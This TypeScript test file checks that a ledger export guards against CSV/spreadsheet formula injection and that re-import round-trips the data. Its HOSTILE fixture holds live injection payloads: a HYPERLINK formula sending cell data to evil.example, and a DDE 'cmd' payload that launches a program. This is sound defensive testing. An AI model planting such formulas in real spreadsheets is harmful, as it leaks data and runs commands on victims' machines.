/**
 * CSV injection (OWASP "CSV Injection"): text that begins with = + - @ (or a tab or carriage
 * return) becomes a formula when someone edits the exported cell in Excel or saves the sheet as
 * CSV and opens it again. The export prefixes such text with a single quote, and the import takes
 * that quote off again, so the export still imports back unchanged. Against a real PostgreSQL.
 */
import ExcelJS from 'exceljs';
import { exportLedger } from '../../src/ledger/export-ledger';
import { importLedger, ImportOptions } from '../../src/ledger/import-ledger';
import { loadTown } from '../../src/read-model/town';
import { FakeCaseEngine } from '../support/fake-case-engine';
import { HEADERS, ledgerCsv } from '../support/ledger-files';
import { createTestDatabase, TestDatabase } from '../support/test-database';

const town = loadTown();
let db: TestDatabase;
const engine = new FakeCaseEngine();

beforeAll(async () => {
  db = await createTestDatabase();
});

afterAll(async () => {
  await db?.drop();
});

function options(fileName: string, bytes: Buffer): ImportOptions {
  return { town, fileName, bytes, importer: { userId: null, username: 'cli:test', actor: '测试（cli:test）', via: 'CLI' } };
}

const HOSTILE = {
  姓名: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  村民小组: '-2+3',
  监护人: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  监护人电话: '+8613912345678',
  与学生关系: '@父亲',
  备注: '=1+2',
};

it('prefixes text cells that begin with = + - @ with a single quote, leaves the rest, and imports back unchanged', async () => {
  const csv = ledgerCsv({ count: 3, cases: { 0: '因贫', 1: '厌学' }, bad: { 0: HOSTILE } });
  const first = await importLedger({ dataSource: db.dataSource, engine }, options('hostile.csv', Buffer.from(csv)));
  expect(first.problems).toEqual([]);
  expect(first.counts).toMatchObject({ created: 3, casesOpened: 2 });
  const [stored] = await db.dataSource.query(`SELECT c.name, c.class_name, c.villager_group, g.name AS guardian, g.phone, g.relation FROM children c JOIN guardians g ON g.child_id = c.id WHERE c.name LIKE '=%'`);
  expect(stored).toEqual({ name: HOSTILE.姓名, class_name: expect.any(String), villager_group: HOSTILE.村民小组, guardian: HOSTILE.监护人, phone: HOSTILE.监护人电话, relation: HOSTILE.与学生关系 });
  // A stored value that itself begins with a quote and a formula character (entered through the registry, say).
  await db.dataSource.query(`UPDATE children SET class_name = $1 WHERE name = $2`, ["'=已带引号", HOSTILE.姓名]);
  stored.class_name = "'=已带引号";

  const exported = await exportLedger(db.dataSource, { town, caseScope: { kind: 'ALL' }, childScope: { kind: 'ALL' }, masked: false });
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(exported as unknown as ArrayBuffer);
  for (const sheet of workbook.worksheets) {
    const headers = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const row = [...Array(sheet.rowCount).keys()].map((i) => sheet.getRow(i + 1)).find((r) => String(r.getCell(headers.indexOf('姓名') + 1).value).includes('HYPERLINK'))!;
    const cell = (header: string) => row.getCell(headers.indexOf(header) + 1).value;
    expect([sheet.name, cell('姓名')]).toEqual([sheet.name, `'${HOSTILE.姓名}`]);
    expect(cell('村民小组')).toBe(`'${HOSTILE.村民小组}`);
    expect(cell('监护人')).toBe(`'${HOSTILE.监护人}`);
    expect(cell('监护人电话')).toBe(`'${HOSTILE.监护人电话}`);
    expect(cell('与学生关系')).toBe(`'${HOSTILE.与学生关系}`);
    // Already quoted: one more quote, so that the import gives back exactly what is stored.
    expect(cell('班级')).toBe(`''=已带引号`);
    if (sheet.name === '案件台账') expect(cell('备注')).toBe(`'${HOSTILE.备注}`);
    // Every other cell is as it was: no formula anywhere, numbers stay numbers.
    expect(typeof cell('年级')).toBe('number');
    expect(cell('学校')).toBe('故陵小学');
    sheet.eachRow((r) =>
      r.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof c.value === 'string') expect(c.value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  }
  expect(HEADERS).toContain('备注');

  const back = await importLedger({ dataSource: db.dataSource, engine }, options('export.xlsx', exported));
  expect(back.problems).toEqual([]);
  expect(back.counts).toMatchObject({ created: 0, updated: 0, unchanged: 3, casesOpened: 0, casesAlreadyOpen: 2 });
  const [after] = await db.dataSource.query(`SELECT c.name, c.class_name, c.villager_group, g.name AS guardian, g.phone, g.relation FROM children c JOIN guardians g ON g.child_id = c.id WHERE c.name LIKE '=%'`);
  expect(after).toEqual(stored);
});
